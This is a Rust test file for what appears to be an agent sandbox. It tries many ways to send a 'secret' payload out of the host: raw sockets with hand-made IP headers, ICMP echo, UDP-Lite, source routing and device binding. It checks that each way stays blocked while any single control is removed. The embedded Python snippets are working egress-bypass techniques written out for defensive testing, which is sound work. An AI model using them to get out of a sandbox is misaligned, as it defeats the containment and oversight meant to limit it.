//! Ways out of the host, and what stands in each: every control is left out in turn to see the next one hold, and all
//! of them to see the sniffer notice.

use anyhow::{Context as _, Result};
use shield_tests::world::{World, python, run};

use crate::actor;

/// A way to try, as whom, and what comes of it without some programs.
struct Way {
    name: &'static str,
    user: User,
    script: &'static str,
    outcomes: &'static [Outcome],
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum User {
    Nobody,
    /// With every capability: none of them may be what holds the way shut.
    Root,
}

/// Programs left out, what the agent is told, and whether anything was seen on the wire.
type Outcome = (&'static [&'static str], &'static str, Wire);

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Wire {
    Silent,
    Leak,
}
use Wire::{Leak, Silent};

/// What scripts of ways out begin with.
pub(crate) const HELPERS: &str = r#"
IPPROTO_UDPLITE, IP_OPTIONS, IP_RETOPTS, IPV6_RTHDR = 136, 4, 7, 57
# By way of another host, strictly speaking loosely: source routing.
VIA_V4 = bytes([131, 7, 4]) + socket.inet_aton("1.2.3.4") + b"\0"
VIA_V6 = bytes([0, 2, 4, 0, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, "2001:db8::9")
def attempt(connection, *address):
    connection.setblocking(False)
    try: connection.connect(*address)
    except BlockingIOError: pass
def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
"#;

const WAYS: &[Way] = &[
    Way {
        name: "TCP over IPv4",
        user: User::Nobody,
        script: r#"say(outcome(lambda: attempt(tcp(), ("1.2.3.4", 443))))"#,
        outcomes: &[
            (&[], "ok", Silent),
            (&["gate_connect4"], "ok", Silent),
            (&["gate_egress"], "ok", Silent),
            (&["gate_connect4", "gate_egress"], "ok", Leak),
        ],
    },
    Way {
        name: "TCP over IPv6",
        user: User::Nobody,
        script: r#"say(outcome(lambda: attempt(tcp(socket.AF_INET6), ("2001:db8::1", 443))))"#,
        outcomes: &[
            (&[], "ok", Silent),
            (&["gate_connect6"], "ok", Silent),
            (&["gate_egress"], "ok", Silent),
            (&["gate_connect6", "gate_egress"], "ok", Leak),
        ],
    },
    Way {
        name: "TCP to a v4-mapped address",
        user: User::Nobody,
        script: r#"say(outcome(lambda: attempt(tcp(socket.AF_INET6), ("::ffff:1.2.3.4", 443))))"#,
        outcomes: &[
            (&["gate_connect6"], "ok", Silent),
            (&["gate_egress"], "ok", Silent),
            (&["gate_connect6", "gate_egress"], "ok", Leak),
        ],
    },
    Way {
        name: "UDP over IPv4",
        user: User::Nobody,
        script: r#"say(outcome(lambda: udp().sendto(b"secret", ("1.2.3.4", 443)) and None))"#,
        outcomes: &[
            (&[], "ECONNREFUSED", Silent),
            (&["gate_sendmsg4"], "EPERM", Silent),
            (&["gate_egress"], "ECONNREFUSED", Silent),
            (&["gate_sendmsg4", "gate_egress"], "ok", Leak),
        ],
    },
    Way {
        name: "UDP over IPv6",
        user: User::Nobody,
        script: r#"say(outcome(lambda: udp(socket.AF_INET6).sendto(b"secret", ("2001:db8::1", 443)) and None))"#,
        outcomes: &[(&["gate_sendmsg6"], "EPERM", Silent), (&["gate_sendmsg6", "gate_egress"], "ok", Leak)],
    },
    Way {
        name: "UDP, connected",
        user: User::Nobody,
        script: r#"
sender = udp()
say(outcome(lambda: sender.connect(("1.2.3.4", 443)) or sender.send(b"secret") and None))
"#,
        outcomes: &[(&["gate_connect4"], "EPERM", Silent), (&["gate_connect4", "gate_egress"], "ok", Leak)],
    },
    Way {
        name: "case 17: UDP-Lite",
        user: User::Nobody,
        script: r#"
def send():
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, IPPROTO_UDPLITE)
    sender.connect(("1.2.3.4", 443))
    sender.send(b"secret")
say(outcome(send))
"#,
        outcomes: &[
            (&[], "EPROTONOSUPPORT", Silent),
            (&["gate_egress"], "EPROTONOSUPPORT", Silent),
            (&["gate_create"], "EPERM", Silent),
            (&["gate_create", "gate_egress"], "ok", Leak),
        ],
    },
    Way {
        name: "case 18: raw UDP",
        user: User::Root,
        script: r#"
def send():
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    sender.sendto(struct.pack("!HHHH", 1, 443, 14, 0) + b"secret", ("1.2.3.4", 0))
say(outcome(send))
"#,
        outcomes: &[
            (&[], "EPROTONOSUPPORT", Silent),
            (&["gate_create"], "EPERM", Silent),
            (&["gate_create", "gate_egress"], "ok", Leak),
        ],
    },
    Way {
        name: "case 18: headers of its own",
        user: User::Root,
        script: r#"
def send():
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    body = struct.pack("!HHHH", 1, 443, 14, 0) + b"secret"
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 34, 1, 0, 64, 17, 0, socket.inet_aton("10.99.0.1"), socket.inet_aton("1.2.3.4"))
    sender.sendto(head + body, ("1.2.3.4", 0))
say(outcome(send))
"#,
        outcomes: &[
            (&[], "EPROTONOSUPPORT", Silent),
            (&["gate_create"], "EPERM", Silent),
            (&["gate_create", "gate_egress"], "ok", Leak),
        ],
    },
    Way {
        name: "case 18: ping",
        user: User::Root,
        script: r#"
def send():
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    echo = lambda sum: struct.pack("!BBHHH", 8, 0, sum, 1, 1) + b"secret"
    sender.sendto(echo(checksum(echo(0))), ("1.2.3.4", 0))
say(outcome(send))
"#,
        outcomes: &[(&["gate_create"], "EPERM", Silent), (&["gate_create", "gate_egress"], "ok", Leak)],
    },
    Way {
        name: "case 20: IPv4 source routing as an option",
        user: User::Root,
        script: r#"
def send():
    asker = udp()
    asker.setsockopt(socket.IPPROTO_IP, IP_OPTIONS, VIA_V4)
    asker.sendto(b"secret", ("8.8.8.8", 53))
say(outcome(send))
"#,
        outcomes: &[
            (&[], "EPERM", Silent),
            (&["gate_setsockopt"], "EPERM", Silent),
            (&["gate_setsockopt", "gate_egress"], "ok", Leak),
        ],
    },
    Way {
        name: "case 20: IPv4 source routing of a connection",
        user: User::Root,
        script: r#"
def send():
    connection = tcp()
    connection.setsockopt(socket.IPPROTO_IP, IP_OPTIONS, VIA_V4)
    attempt(connection, ("8.8.8.8", 443))
say(outcome(send))
"#,
        outcomes: &[
            (&[], "EPERM", Silent),
            (&["gate_setsockopt"], "ok", Silent),
            (&["gate_setsockopt", "gate_egress"], "ok", Leak),
        ],
    },
    Way {
        name: "case 20: IPv4 source routing of one message",
        user: User::Root,
        script: r#"
route = [(socket.IPPROTO_IP, IP_RETOPTS, VIA_V4)]
say(outcome(lambda: udp().sendmsg([b"secret"], route, 0, ("8.8.8.8", 53)) and None))
"#,
        // No hook sees this one but the backstop.
        outcomes: &[(&[], "EPERM", Silent), (&["gate_egress"], "ok", Leak)],
    },
    Way {
        name: "case 21: IPv6 segment routing as an option",
        user: User::Nobody,
        script: r#"
def send():
    asker = udp(socket.AF_INET6)
    asker.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, VIA_V6)
    asker.sendto(b"secret", ("2001:db8::53", 53))
say(outcome(send))
"#,
        outcomes: &[
            (&[], "EPERM", Silent),
            (&["gate_setsockopt"], "EPERM", Silent),
            (&["gate_setsockopt", "gate_egress"], "ok", Leak),
        ],
    },
    Way {
        name: "case 12: a device for one message",
        user: User::Nobody,
        script: r#"
IP_PKTINFO = 8
device = [(socket.IPPROTO_IP, IP_PKTINFO, struct.pack("i8x", socket.if_nametoindex("eth0")))]
say(outcome(lambda: udp().sendmsg([b"secret"], device, 0, ("8.8.8.8", 53)) and None))
"#,
        outcomes: &[(&[], "EPERM", Silent), (&["gate_egress"], "ok", Leak)],
    },
    Way {
        name: "case 12: bound to a device",
        user: User::Nobody,
        script: r#"
def connect():
    connection = tcp()
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
    attempt(connection, ("1.2.3.4", 443))
say(outcome(connect))
"#,
        outcomes: &[
            (&[], "ok", Silent),
            (&["gate_egress"], "ok", Silent),
            (&["gate_setsockopt"], "ok", Silent),
            (&["gate_setsockopt", "gate_egress"], "ok", Leak),
        ],
    },
];

// Cases 12, 17, 18, 20 and 21, and the plain ways.
#[test]
fn every_way_out_is_shut_more_than_once_and_open_without_any_control() -> Result<()> {
    for way in WAYS {
        for &(omitted, told, wire) in way.outcomes {
            let Some(seen) = attempt(way, omitted)? else { return Ok(()) };
            assert_eq!(seen, (told.to_owned(), wire), "{} without {omitted:?}", way.name);
        }
    }
    Ok(())
}

fn attempt(way: &Way, omitted: &[&str]) -> Result<Option<(String, Wire)>> {
    let Some(mut world) = World::without(actor(), omitted)? else { return Ok(None) };
    let _proxy = world.serve()?;
    let user = (way.user == User::Nobody).then_some(shield_tests::world::NOBODY);
    let command = world.program(python(), &world.cgroups.agent, user)?;
    let said = run(command, &format!("{HELPERS}\n{}", way.script)).context(way.name)?;
    let wire = if world.leaks()?.is_empty() { Silent } else { Leak };
    Ok(Some((said, wire)))
}
